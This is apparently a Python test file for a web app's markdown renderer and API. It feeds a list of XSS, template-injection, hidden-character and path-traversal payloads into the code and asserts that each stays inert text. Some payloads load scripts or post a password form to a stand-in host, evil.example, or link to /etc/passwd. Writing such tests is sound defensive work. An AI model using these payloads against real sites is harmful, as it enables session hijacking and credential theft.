"""Model output and people's text are hostile: what the server turns into HTML is safe, all else stays text."""

import re
from html.parser import HTMLParser
from urllib.parse import quote

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.web.conftest import judge
from trueup.feedback.store.projects import NewItem, import_items
from trueup.web.shell.markdown import TAGS, to_html

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "![x](https://evil.example/p.png)",
    "![x](data:image/png;base64,AAAA)",
    "![x][1]\n\n[1]: https://evil.example/p.png",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "<javascript:alert(1)>",
    '[x](https://a.example "onclick=alert(1)")',
    "[x](https://a.example' onmouseover='alert(1))",
    "<svg onload=alert(1)>",
    "<math><mtext></p><style><img src=x onerror=alert(1)></style>",
    "<iframe src=https://evil.example></iframe>",
    "<object data=x></object><embed src=x>",
    "<form action=https://evil.example><input name=password></form>",
    "<a href=javascript:alert(1)>x</a>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "# <img src=x onerror=alert(1)>",
    "<div style='background:url(https://evil.example)'>x</div>",
    "{{7*7}} ${7*7} #{7*7} {% include '/etc/passwd' %}",
    "safe\u202egnp.exe\u200b\ufeff\u2066hidden\u2069",
    "\U000e0041\U000e0042 tag characters",
    "\x00\x08<script>",
]


class Reader(HTMLParser):
    """Collects every tag with its attributes."""

    def __init__(self, text):
        super().__init__()
        self.tags = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attributes):
        self.tags.append((tag, dict(attributes)))

    handle_startendtag = handle_starttag


def assert_safe(html):
    for tag, attributes in Reader(html).tags:
        assert tag in TAGS, html
        assert set(attributes) <= ({"href", "title", "rel"} if tag == "a" else {"start"} if tag == "ol" else set()), (
            html
        )
        if "href" in attributes:
            assert re.match(r"(https?://|mailto:)", attributes["href"]), html
        if tag == "a":
            assert attributes["rel"] == "noopener noreferrer nofollow"
    assert not re.search("[\u200b-\u200f\u202a-\u202e\u2066-\u2069\ufeff\U000e0000-\U000e007f]", html)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_survives_as_markup(payload):
    assert_safe(to_html(payload))


@given(st.text(max_size=200))
def test_no_text_becomes_anything_else(text):
    assert_safe(to_html(text))


@given(
    st.lists(
        st.sampled_from(
            [
                "<",
                ">",
                '"',
                "'",
                "`",
                "[",
                "](",
                ")",
                "!",
                "script",
                "img src=x ",
                "javascript:",
                "\n",
                "&",
                "https://a.b",
                " onerror=x",
                "*",
                "#",
                "|",
                "-",
            ]
        ),
        max_size=30,
    )
)
def test_no_mixture_of_dangerous_pieces_does(parts):
    assert_safe(to_html("".join(parts)))


def test_ordinary_guidelines_look_as_meant():
    table = "| a | b |\n|---|---|\n| 1 | 2 |\n"
    html = to_html(f"# Title\n\n1. one\n2. **two** `code`\n\n> quote\n\n[site](https://a.example)\n\n{table}")
    for piece in ("<h1>Title</h1>", "<ol>", "<strong>two</strong>", "<code>code</code>", "<blockquote>", "<table>"):
        assert piece in html
    assert '<a href="https://a.example" rel="noopener noreferrer nofollow">site</a>' in html
    assert to_html("3. three").startswith('<ol start="3">')


def test_hidden_characters_are_written_out():
    assert "⟨U+202E⟩" in to_html("a\u202eb")
    assert to_html("naïve 日本語 שלום 😀") == "<p>naïve 日本語 שלום 😀</p>\n"


@pytest.mark.parametrize("payload", [p for p in PAYLOADS if "\x00" not in p])
def test_texts_travel_unchanged_as_json_that_no_browser_takes_for_a_page(room, project, payload):
    rows = [NewItem(f"{payload} {n}?", (f"{payload} a", f"{payload} b")) for n in range(1)]
    assert import_items(room.store, room.template, rows, overlap=2, priority=9).rejected == ()
    client = room.client("annotator")
    reply = client.post(f"/projects/{project}/next")
    seat = reply.json()["seat"]
    assert seat["prompt"][0]["content"] == f"{payload} 0?"
    assert {r["text"] for r in seat["responses"]} == {f"{payload} a", f"{payload} b"}
    assert reply.headers["content-type"] == "application/json"
    assert reply.headers["x-content-type-options"] == "nosniff"
    assert judge(client, seat, rationale=payload).status_code == 201


@pytest.mark.parametrize("payload", PAYLOADS[:12])
def test_names_that_are_payloads_stay_names(room, payload):
    admin = room.client("admin")
    handle = " ".join(payload.split())[:80]
    assert admin.post("/people", json={"handle": handle}).json()["handle"] == handle
    assert admin.post("/projects", json={"name": payload}).json()["name"] == payload
    wrong = admin.get(f"/audit?since={'x' * 50}")
    assert wrong.headers["content-type"] == "application/problem+json"
    missing = admin.get(f"/projects/{quote(payload, safe='')}/templates")
    assert missing.status_code == 404
    assert missing.headers["content-type"].startswith("application/problem+json")


@pytest.mark.parametrize(
    "path", ["..%2f..", "..%2fapp.py", "%2e%2e/base", "base", "login.html", "__init__", "x" * 3000]
)
def test_page_names_lead_to_no_other_file(room, path):
    reply = room.anonymous().get(f"{room.url}/{path}", follow_redirects=False)
    assert reply.status_code == 404
    assert "root:" not in reply.text
